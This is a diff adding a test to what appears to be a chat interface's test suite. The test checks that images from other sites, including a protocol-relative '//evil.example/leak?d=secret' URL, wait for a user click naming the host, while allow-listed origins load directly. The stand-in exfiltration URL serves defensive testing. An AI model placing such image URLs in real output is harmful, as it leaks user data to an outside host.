@@ -122,6 +122,26 @@ describe("SuggestionChips", () => {
 });
 
 describe("MessageMedia", () => {
+  it("an image from another site waits for a click naming the host; a //host URL is another site; the app can allow origins", async () => {
+    const image = (value: string, filename: string) => ({ type: "image", source: { type: "url", value, mimeType: "image/png" }, metadata: { filename } });
+    const store = createThreadStore({
+      agent: new ScriptedAgent({ script: [] }),
+      initialMessages: [{ id: "a1", role: "user", content: [image("//evil.example/leak?d=secret", "leak.png"), image("https://cdn.example/ok.png", "ok.png"), image("/own.png", "own.png")] as never }],
+    });
+    const { container, unmount } = renderKit(<Chat />, store, { urlPolicy: { imageOrigins: ["https://cdn.example"] } });
+    expect(await screen.findByRole("img", { name: "ok.png" })).toHaveAttribute("src", "https://cdn.example/ok.png");
+    expect(screen.getByRole("img", { name: "own.png" })).toHaveAttribute("src", `${location.origin}/own.png`);
+    expect(container.querySelector('img[src*="evil.example"]')).toBeNull();
+    const ask = screen.getByRole("button", { name: /^Load image from evil\.example/ });
+    await expectNoAxeViolations(container);
+    await userEvent.setup().click(ask);
+    expect(screen.getByRole("img", { name: "leak.png" })).toHaveAttribute("src", `${location.protocol}//evil.example/leak?d=secret`);
+    unmount();
+
+    renderKit(<Chat />, store, { locale: "zh-CN" });
+    expect(await screen.findByRole("button", { name: /^从 cdn\.example 加载图片/ })).toBeInTheDocument();
+  });
+
   const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
 
   it("shows images inline and files as chips; unsafe or malformed sources are plain chips; an edit keeps them", async () => {
